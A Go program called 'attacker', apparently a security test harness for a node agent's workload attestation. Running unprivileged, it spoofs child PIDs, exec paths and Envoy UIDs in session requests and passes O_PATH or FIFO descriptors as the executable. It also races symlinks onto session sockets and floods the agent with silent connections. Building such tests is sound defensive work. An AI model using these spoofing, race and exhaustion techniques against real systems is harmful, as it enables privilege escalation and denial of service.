// Command attacker is an unprivileged program on a node that lies to its
// agent: about the child whose session it opens, about what that child will
// execute, about whose Envoy it is. It prints one line for each try:
// "attested <SPIFFE ID> <session>", or "refused: <reason>". Or it merely takes
// all connections.
package main

import (
	"context"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"

	localv1 "github.com/legation-io/legation/api/local/v1"
	nodev1 "github.com/legation-io/legation/api/node/v1"
)

var (
	socket   = flag.String("socket", "", "the agent's public socket")
	program  = flag.String("exec", "/bin/sleep", "what the child is said to execute")
	how      = flag.String("open", "read", "how the child holds it: read, path (no permission needed), fifo")
	envoyUID = flag.Int("envoy-uid", os.Getuid(), "the uid the Envoy is said to have")
	resume   = flag.String("resume", "", "a session to be resumed")
	tries    = flag.Int("tries", 1, "sessions to be opened, one after the other")
	atOnce   = flag.Int("at-once", 1, "sessions to be held open at once")
	swap     = flag.String("swap", "", "put a link to this file where a session's socket is made")
	silent   = flag.Int("silent", 0, "connect so often, say nothing, and print how many connections the agent keeps")
	runDir   = flag.String("run-dir", "", "folder of sessions, for swap")
)

func main() {
	flag.Parse()
	if err := attack(); err != nil {
		fmt.Println("failed:", err)
		os.Exit(1)
	}
}

func attack() error {
	ctx, cancel := context.WithTimeout(context.Background(), 50*time.Second)
	defer cancel()
	if *silent > 0 {
		return beSilent()
	}
	var stop atomic.Bool
	defer stop.Store(true)
	if *swap != "" {
		for range 2 {
			go swapper(&stop)
		}
	}
	var held []func()
	for n := range *tries * *atOnce {
		end, err := open(ctx)
		if err != nil {
			return err
		}
		if held = append(held, end); len(held) < *atOnce && n+1 < *tries**atOnce {
			continue
		}
		for _, end := range held {
			end()
		}
		held = nil
	}
	return nil
}

// open tries one session and says what came of it.
func open(ctx context.Context) (end func(), err error) {
	file, err := held()
	if err != nil {
		return nil, err
	}
	defer file.Close()
	argv := flag.Args()
	if len(argv) == 0 {
		argv = []string{"/bin/sleep", "60"}
	}
	child := exec.Command(argv[0], argv[1:]...)
	child.ExtraFiles = []*os.File{file}
	child.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
	if err := child.Start(); err != nil {
		return nil, err
	}
	conn, err := grpc.NewClient("unix://"+*socket, grpc.WithTransportCredentials(insecure.NewCredentials()))
	if err != nil {
		return nil, err
	}
	end = func() {
		conn.Close()
		_ = child.Process.Kill()
		_ = child.Wait()
	}
	time.Sleep(20 * time.Millisecond) // for the child to have executed its own program
	stream, err := localv1.NewSessionsClient(conn).Open(ctx)
	if err == nil {
		err = stream.Send(&localv1.SessionRequest{Message: &localv1.SessionRequest_Start{Start: &localv1.SessionStart{
			ChildPid: int32(child.Process.Pid), ExecFd: 3, ExecPath: *program, Mode: nodev1.Mode_MODE_EXPLICIT,
			EnvoyUid: uint32(*envoyUID), Resume: *resume,
		}}})
	}
	if err != nil {
		fmt.Println("refused:", strings.ReplaceAll(err.Error(), "\n", " "))
		return end, nil
	}
	r, err := stream.Recv()
	if err != nil {
		fmt.Println("refused:", strings.ReplaceAll(err.Error(), "\n", " "))
		return end, nil
	}
	fmt.Println("attested", r.GetAttested().GetSpiffeId(), r.GetAttested().GetSession())
	if *swap != "" {
		time.Sleep(2 * time.Millisecond)
	}
	return end, nil
}

// held is the file that the child holds as what it will execute.
func held() (*os.File, error) {
	switch *how {
	case "path":
		fd, err := unix.Open(*program, unix.O_PATH, 0)
		return os.NewFile(uintptr(fd), *program), err
	case "fifo":
		path := filepath.Join(os.TempDir(), fmt.Sprintf("fifo%d-%d", os.Getpid(), time.Now().UnixNano()))
		if err := unix.Mkfifo(path, 0o600); err != nil {
			return nil, err
		}
		defer os.Remove(path)
		fd, err := unix.Open(path, unix.O_PATH, 0)
		return os.NewFile(uintptr(fd), path), err
	}
	return os.Open(*program)
}

// swapper replaces the socket in each folder of a session that is this user's
// by a link, as soon as it is there.
func swapper(stop *atomic.Bool) {
	for !stop.Load() {
		entries, _ := os.ReadDir(*runDir)
		for _, e := range entries {
			at, link := filepath.Join(*runDir, e.Name(), "envoy.sock"), filepath.Join(*runDir, e.Name(), "link")
			if syscall.Symlink(*swap, link) != nil {
				continue // another's, or gone
			}
			for range 5000 {
				if unix.Access(at, unix.F_OK) == nil {
					_ = syscall.Rename(link, at)
					break
				}
			}
		}
	}
}

// beSilent prints "kept <n>" and holds the connections until its input ends.
func beSilent() error {
	var conns []net.Conn
	for range *silent {
		conn, err := net.Dial("unix", *socket)
		if err != nil {
			return err
		}
		conns = append(conns, conn)
	}
	time.Sleep(time.Second) // for the agent to have looked at all
	kept := 0
	for _, conn := range conns {
		_ = conn.SetReadDeadline(time.Now().Add(time.Millisecond))
		_, err := io.Copy(io.Discard, conn) // a gRPC server speaks first
		if e, ok := err.(net.Error); ok && e.Timeout() {
			kept++
		}
	}
	fmt.Println("kept", kept)
	_, _ = io.Copy(io.Discard, os.Stdin)
	return nil
}
